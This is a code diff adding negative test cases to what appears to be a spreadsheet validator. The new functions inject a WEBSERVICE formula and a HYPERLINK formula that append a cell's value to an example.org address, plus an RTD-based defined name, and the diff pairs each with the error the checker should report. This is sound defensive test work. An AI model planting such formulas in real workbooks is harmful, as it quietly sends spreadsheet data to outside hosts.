@@ -125,6 +125,22 @@ def pivot_outside(book):
     book.swap("xl/pivotCache/pivotCacheDefinition1.xml", "</cacheSource>", "--></cacheSource>")
 
 
+def asks_outside(book):
+    book.swap(
+        book.sheets["Review"], "<f>Spend!D1</f>", "<f>WEBSERVICE(&quot;https://example.org/?&quot;&amp;Spend!D1)</f>"
+    )
+
+
+def built_link(book):
+    book.swap(
+        book.sheets["Review"], "<f>Spend!D1</f>", "<f>HYPERLINK(&quot;https://example.org/?&quot;&amp;Spend!D1)</f>"
+    )
+
+
+def asking_name(book):
+    book.name("Rate", "RTD(&quot;x&quot;,,&quot;y&quot;)".replace("&quot;", '"'))
+
+
 def strict(book):
     book.parts["xl/workbook.xml"] = book.parts["xl/workbook.xml"].replace(
         MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main"
@@ -163,6 +179,9 @@ BAD = {
     pivot_elsewhere: "pivot By supplier on Review: The pivot reads Review!A2:D14, not the rows.",
     pivot_of_some: "pivot By supplier on Review: The pivot reads Spend!A2:D9 rather than A2:D14, not the rows.",
     pivot_outside: "pivot By supplier on Review: The pivot reads a source outside, not the rows.",
+    asks_outside: "Review!B3: It asks something outside: WEBSERVICE. Put what it gives in its place.",
+    built_link: "Review!B3: It puts a link's address together from cells. Write the address as a text.",
+    asking_name: "name Rate: It asks something outside: RTD.",
     strict: "It is saved in the strict form of .xlsx, which is not read. Save it as a usual .xlsx.",
     broken: "Its part xl/styles.xml can't be read. Save it again as .xlsx.",
     entities: "can't be read",
